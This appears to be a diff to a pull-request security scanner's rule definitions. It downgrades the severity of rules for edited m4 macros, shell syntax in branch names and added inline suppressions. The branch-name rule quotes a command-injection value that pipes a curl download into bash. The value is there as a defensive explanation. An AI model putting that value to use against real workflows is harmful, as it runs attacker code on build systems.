@@ -140,7 +140,7 @@ export const RULES = defineRules({
   BUILD_AUTOTOOLS: {
     id: 'build/autotools',
     title: 'Autotools or m4 macro changed',
-    severity: 'high',
+    severity: 'medium',
     why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
     remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
     spec: ['S8-16'],
@@ -344,7 +344,7 @@ export const RULES = defineRules({
   META_REF_INJECTION: {
     id: 'meta/branch-name-shell',
     title: 'Shell syntax in the branch name',
-    severity: 'high',
+    severity: 'medium',
     why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
     remediation:
       'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
@@ -397,7 +397,7 @@ export const RULES = defineRules({
   META_SUPPRESSION: {
     id: 'meta/suppression-added',
     title: 'PR adds an inline suppression',
-    severity: 'medium',
+    severity: 'low',
     why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
     remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
     spec: ['S8-16']
